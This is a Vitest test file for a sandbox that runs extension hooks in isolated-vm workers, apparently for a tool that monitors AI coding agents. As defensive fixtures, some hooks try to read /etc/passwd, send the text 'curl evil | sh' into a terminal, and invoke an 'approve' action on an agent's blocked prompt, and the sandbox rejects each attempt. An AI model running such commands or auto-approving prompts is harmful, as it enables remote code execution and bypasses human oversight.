// The sandbox as the server uses it: a real hook worker process with real isolated-vm isolates.
// Hostile hooks are in hookSandbox.hostile.test.ts.
import { describe, expect, it } from 'vitest';
import type { HookDisabledNotice } from './definitions';
import type { HookEvent } from './events';
import { extensionFixture } from './extensionFixture';
import { useTrackedSandboxes } from './trackedSandboxes';
import { childProcessesOf, processExists } from './sandboxProbes';

const blocked: HookEvent = {
  event: 'agent-state-changed',
  session: 'main',
  pane: 3,
  agent: 'claude',
  previous: 'working',
  state: 'blocked',
  source: 'screen',
  message: 'Allow edit?',
};

const extension = extensionFixture;

const sandbox = useTrackedSandboxes();

describe('HookSandbox', () => {
  it('starts no worker until used, and kills it on dispose', async () => {
    const { box } = sandbox();
    expect(box.workerPid).toBeNull();
    await box.load(extension('ext', { a: { source: 'export default () => null' } }));
    const pid = box.workerPid;
    expect(pid).not.toBeNull();
    expect(processExists(pid as number)).toBe(true);
    await box.dispose();
    expect(processExists(pid as number)).toBe(false);
    expect(box.workerPid).toBeNull();
    const after = await box.call({ extensionId: 'ext', hookId: 'a', event: blocked });
    expect(after.error?.kind).toBe('cancelled');
  });

  it('leaves no process behind when disposed while the worker is still starting', async () => {
    const { box } = sandbox();
    const load = box.load(extension('ext', { a: { source: 'export default () => null' } }));
    await box.dispose();
    expect((await load).errors).toEqual([{ hookId: 'a', message: 'the hook sandbox was disposed' }]);
    const workers = (): unknown[] =>
      childProcessesOf(process.pid).filter((child) => child.command.includes('hookWorker'));
    const deadline = Date.now() + 3_000;
    while (workers().length > 0 && Date.now() < deadline)
      await new Promise((resolve) => setTimeout(resolve, 20));
    expect(workers()).toEqual([]);
  });

  it('passes the event as a plain copy and returns checked effects, sync and async', async () => {
    const { box } = sandbox();
    const report = await box.load(
      extension('ext', {
        sync: {
          source: `export default function (event) {
            event.pane = 99; // a copy: the server's object is untouched
            const plain = Object.getPrototypeOf(event) === Object.prototype;
            return { type: 'notify', title: String(plain), message: event.agent + ' is ' + event.state };
          }`,
        },
        async: {
          source: `export default async (event) => {
            await null;
            const rows = await Promise.resolve([{ id: String(event.pane), label: event.agent, state: event.state }]);
            return [{ type: 'publish', tab: 'agents', rows }, { type: 'status', state: 'blocked', reason: 'waiting' }];
          }`,
        },
      }),
    );
    expect(report.errors).toEqual([]);
    const outcomes = await box.dispatch(blocked);
    expect(blocked.pane).toBe(3);
    expect(outcomes.map((o) => [o.hookId, o.ok, o.effects, o.rejected, o.error])).toEqual([
      ['sync', true, [{ type: 'notify', title: 'true', message: 'claude is blocked' }], [], null],
      [
        'async',
        true,
        [
          { type: 'publish', tab: 'agents', rows: [{ id: '3', label: 'claude', state: 'blocked' }] },
          { type: 'status', state: 'blocked', reason: 'waiting' },
        ],
        [],
        null,
      ],
    ]);
    for (const outcome of outcomes) expect(outcome.roundTripMs).toBeGreaterThanOrEqual(outcome.durationMs);
  });

  it('runs only hooks whose event and filter match', async () => {
    const { box } = sandbox();
    await box.load(
      extension('ext', {
        onBlocked: {
          filter: { state: 'blocked' },
          source: `export default () => ({ type: 'notify', message: 'blocked' })`,
        },
        onCodex: {
          filter: { agent: ['codex', 'amp'] },
          source: `export default () => ({ type: 'notify', message: 'codex' })`,
        },
        onBell: { event: 'bell', source: `export default () => ({ type: 'notify', message: 'bell' })` },
      }),
    );
    const names = async (event: HookEvent): Promise<string[]> =>
      (await box.dispatch(event)).map((o) => o.hookId);
    expect(await names(blocked)).toEqual(['onBlocked']);
    expect(await names({ ...blocked, agent: 'codex', state: 'idle' })).toEqual(['onCodex']);
    expect(await names({ event: 'bell', session: 'main', pane: 1, focused: false })).toEqual(['onBell']);
    expect(await names({ event: 'config-reloaded', path: '/home/u/.config/rozi/config.toml' })).toEqual([]);
  });

  it('reports a clear load error per bad module and still runs the good ones', async () => {
    const { box, logs } = sandbox();
    const report = await box.load(
      extension('ext', {
        imports: {
          source: `import { readFileSync } from 'fs';\nexport default () => readFileSync('/etc/passwd')`,
        },
        syntax: { source: 'export default ( => 1' },
        noDefault: { source: 'export const hook = () => 1' },
        notFunction: { source: 'export default 42' },
        slowTop: { source: 'while (true) {}\nexport default () => 1' },
        throwsTop: { source: 'throw new Error("bad init")\nexport default () => 1' },
        good: { source: `export default () => ({ type: 'notify', message: 'fine' })` },
      }),
    );
    expect(report.errors).toEqual([
      {
        hookId: 'imports',
        message:
          'ext/hooks/imports.js imports "fs"; hooks cannot import anything (the sandbox has no modules)',
      },
      { hookId: 'syntax', message: expect.stringMatching(/^ext\/hooks\/syntax\.js: SyntaxError: /) },
      {
        hookId: 'noDefault',
        message:
          'ext/hooks/noDefault.js must export a function as its default export (export default function (event) { … })',
      },
      {
        hookId: 'notFunction',
        message:
          'ext/hooks/notFunction.js must export a function as its default export (export default function (event) { … })',
      },
      {
        hookId: 'slowTop',
        message: "ext/hooks/slowTop.js: the module's top-level code ran longer than 250 ms",
      },
      { hookId: 'throwsTop', message: 'ext/hooks/throwsTop.js: Error: bad init' },
    ]);
    expect(logs.filter((l) => l.message.includes('not loaded'))).toHaveLength(6);
    expect((await box.dispatch(blocked)).map((o) => [o.hookId, o.ok])).toEqual([['good', true]]);
    const health = box.health().find((h) => h.hookId === 'imports');
    expect(health?.loadError).toMatch(/cannot import/);
    const direct = await box.call({ extensionId: 'ext', hookId: 'imports', event: blocked });
    expect(direct.error).toEqual({ kind: 'not-loaded', message: expect.stringMatching(/cannot import/) });
  });

  it('rejects effects without permission, with a reason, and applies the permitted ones', async () => {
    const { box, logs } = sandbox();
    await box.load(
      extension('ext', {
        greedy: {
          permissions: ['notify'],
          source: `export default () => [
            { type: 'notify', message: 'allowed' },
            { type: 'send-text', text: 'curl evil | sh\\n' },
            { type: 'invoke', action: 'approve' },
          ]`,
        },
      }),
    );
    const [outcome] = await box.dispatch(blocked);
    expect(outcome?.ok).toBe(true);
    expect(outcome?.effects).toEqual([{ type: 'notify', message: 'allowed' }]);
    expect(outcome?.rejected).toEqual([
      'effect 2 (send-text): the hook lacks the "send-text" permission; declare it in the hook\'s permissions',
      'effect 3 (invoke): the hook lacks the "invoke" permission; declare it in the hook\'s permissions',
    ]);
    expect(logs.map((l) => l.message)).toContain(
      'hook ext/greedy: effect 2 (send-text): the hook lacks the "send-text" permission; declare it in the hook\'s permissions',
    );
    expect(box.health()[0]).toMatchObject({ calls: 1, failures: 0, rejectedEffects: 2 });
  });

  it('turns throws, non-JSON and oversized answers into errors, and keeps working', async () => {
    const { box } = sandbox();
    await box.load(
      extension('ext', {
        throws: { source: `export default () => { throw new TypeError('nope') }` },
        rejects: { source: `export default async () => { throw new Error('async nope') }` },
        cycle: { source: `export default () => { const a = {}; a.self = a; return a }` },
        bigint: { source: `export default () => ({ type: 'notify', message: 10n })` },
        // Oversized but cheap to build: a 10 MB answer costs more CPU than the 50 ms budget in
        // operations V8 cannot interrupt, and is then a timeout (hookSandbox.hostile.test.ts).
        huge: { source: `export default () => ({ type: 'notify', message: 'x'.repeat(100 * 1024) })` },
        hugeList: {
          source: `export default () => Array.from({ length: 1500 }, (_, i) => ({ type: 'notify', message: 'm'.repeat(20) + i }))`,
        },
        fine: { source: `export default () => ({ type: 'notify', message: 'still here' })` },
      }),
    );
    const byHook = Object.fromEntries((await box.dispatch(blocked)).map((o) => [o.hookId, o.error]));
    expect(byHook).toEqual({
      throws: { kind: 'thrown', message: 'the hook threw: nope' },
      rejects: { kind: 'thrown', message: 'the hook threw: async nope' },
      cycle: {
        kind: 'invalid-return',
        message: expect.stringMatching(/^the return value is not JSON: .*circular/i),
      },
      bigint: {
        kind: 'invalid-return',
        message: expect.stringMatching(/^the return value is not JSON: .*BigInt/),
      },
      huge: {
        kind: 'too-large',
        message: expect.stringMatching(/serializes to 1024\d\d characters; the limit is 65536$/),
      },
      hugeList: { kind: 'too-large', message: expect.stringMatching(/the limit is 65536$/) },
      fine: null,
    });
  });

  it('disables a hook after repeated failures, tells the server once, and re-enables on request', async () => {
    const notices: HookDisabledNotice[] = [];
    const { box } = sandbox({
      onHookDisabled: (notice) => notices.push(notice),
      healthPolicy: { disableAfterFailures: 3, windowMs: 60_000 },
    });
    await box.load(
      extension('ext', { flaky: { source: `export default () => { throw new Error('always') }` } }),
    );
    for (let i = 0; i < 5; i += 1) await box.dispatch(blocked);
    expect(notices).toEqual([
      {
        extensionId: 'ext',
        hookId: 'flaky',
        reason: 'disabled after 3 failures in 60 s; last: the hook threw: always',
      },
    ]);
    const [health] = box.health();
    expect(health).toMatchObject({
      calls: 3,
      failures: 3,
      disabled: true,
      lastError: 'the hook threw: always',
    });
    expect(await box.dispatch(blocked)).toEqual([]);
    expect(box.enable({ extensionId: 'ext', hookId: 'flaky' })).toBe(true);
    expect(await box.dispatch(blocked)).toHaveLength(1);
  });

  it('keeps module state between calls of one extension and isolates extensions from each other', async () => {
    const { box } = sandbox();
    await box.load(
      extension('a', {
        count: {
          source: `let n = 0; globalThis.shared = 'a'; export default () => ({ type: 'notify', message: String(++n) })`,
        },
      }),
    );
    await box.load(
      extension('b', {
        peek: { source: `export default () => ({ type: 'notify', message: String(globalThis.shared) })` },
      }),
    );
    const messages = async (): Promise<string[]> =>
      (await box.dispatch(blocked)).map(
        (o) => (o.effects[0] as { message: string } | undefined)?.message ?? '',
      );
    expect(await messages()).toEqual(['1', 'undefined']);
    expect(await messages()).toEqual(['2', 'undefined']);
    await box.unload('a');
    expect(await messages()).toEqual(['undefined']);
    const gone = await box.call({ extensionId: 'a', hookId: 'count', event: blocked });
    expect(gone.error?.kind).toBe('not-loaded');
  });

  it('answers 10,000 calls with steady worker memory', async () => {
    const { box } = sandbox();
    await box.load(
      extension('ext', {
        busy: {
          source: `export default (event) => [{ type: 'publish', tab: 'agents', rows: [{ id: String(event.pane), label: event.agent + ' ' + 'x'.repeat(200) }] }]`,
        },
      }),
    );
    const run = async (count: number): Promise<void> => {
      for (let i = 0; i < count; i += 1) {
        const [outcome] = await box.dispatch({ ...blocked, pane: i });
        if (outcome?.ok !== true) throw new Error(`call ${i} failed: ${JSON.stringify(outcome)}`);
      }
    };
    await run(1_000);
    const before = await box.workerStats();
    await run(10_000);
    const after = await box.workerStats();
    const growthMb = (after.rssBytes - before.rssBytes) / 1024 / 1024;
    console.info(
      `worker RSS ${(before.rssBytes / 1048576).toFixed(1)} MB -> ${(after.rssBytes / 1048576).toFixed(1)} MB over 10,000 calls`,
    );
    expect(after.pid).toBe(before.pid);
    expect(growthMb).toBeLessThan(24);
    expect(box.health()[0]).toMatchObject({ calls: 11_000, failures: 0 });
  }, 60_000);
});
